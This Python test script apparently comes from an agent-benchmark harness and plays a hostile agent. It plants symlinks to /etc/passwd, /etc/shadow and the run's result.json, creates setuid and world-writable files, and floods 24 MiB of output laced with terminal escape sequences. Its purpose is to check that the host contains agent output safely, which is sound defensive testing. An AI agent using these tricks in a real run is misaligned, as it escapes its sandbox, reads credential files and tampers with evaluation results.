"""Hole 5 of issue 13: the host's run directory takes what the agent made.

In $SSE_ARCHIVE (the host's archive/) the agent plants links out of it (to
/etc/passwd, /etc, /root, the results' result.json, and ../result.json, which on
the host is the run directory's), files with setuid/setgid bits and world-writable
files and folders. In its tree (which becomes source.tar.gz) it makes a setuid and a
setgid file and a world-writable folder. Then it prints FLOOD_BYTES of output laced
with terminal escape sequences.
"""

from __future__ import annotations

import sys
from pathlib import Path

import ssehostile as h

FLOOD_BYTES = 24 << 20
"""Half as much again as contract.AGENT_OUTPUT_LIMIT (16 MiB)."""

LINE = b"\x1b[31mFLOOD\x1b[0m \x1b]0;owned\x07 \x1b[2J" + b"x" * 90 + b"\r\n"

LINKS = {
    "passwd": "/etc/passwd",
    "etc": "/etc",
    "root": "/root",
    "result": "/var/lib/ssebench/results/result.json",
    "up-result": "../result.json",
}
MODES = {"setuid": 0o4755, "setgid": 0o2755, "world-writable": 0o666}


def plant_archive() -> None:
    archive = h.ARCHIVE
    for name, target in LINKS.items():
        (archive / name).symlink_to(target)
    for name, mode in MODES.items():
        path = archive / name
        path.write_text(f"{name}\n")
        path.chmod(mode)
    nested = archive / "open-folder"
    nested.mkdir()
    nested.chmod(0o777)
    (nested / "inside-setuid").write_text("inside\n")
    (nested / "inside-setuid").chmod(0o4777)
    (nested / "link-to-shadow").symlink_to("/etc/shadow")
    sticky = archive / "sticky-folder"
    sticky.mkdir()
    sticky.chmod(0o1777)


def plant_tree() -> None:
    tool = Path("tools-setuid.sh")
    tool.write_text("#!/bin/sh\necho hello\n")
    tool.chmod(0o4755)
    group = Path("tools-setgid.sh")
    group.write_text("#!/bin/sh\necho hello\n")
    group.chmod(0o2755)
    shared = Path("shared")
    shared.mkdir()
    shared.chmod(0o777)
    (shared / "notes.txt").write_text("anyone may write here\n")
    (shared / "notes.txt").chmod(0o666)


def flood() -> None:
    out = sys.stdout.buffer
    written = 0
    block = LINE * 512
    while written < FLOOD_BYTES:
        out.write(block)
        written += len(block)
    out.flush()


def main() -> None:
    plant_archive()
    plant_tree()
    h.write_report({"links": LINKS, "modes": {k: oct(v) for k, v in MODES.items()}})
    flood()


if __name__ == "__main__":
    main()
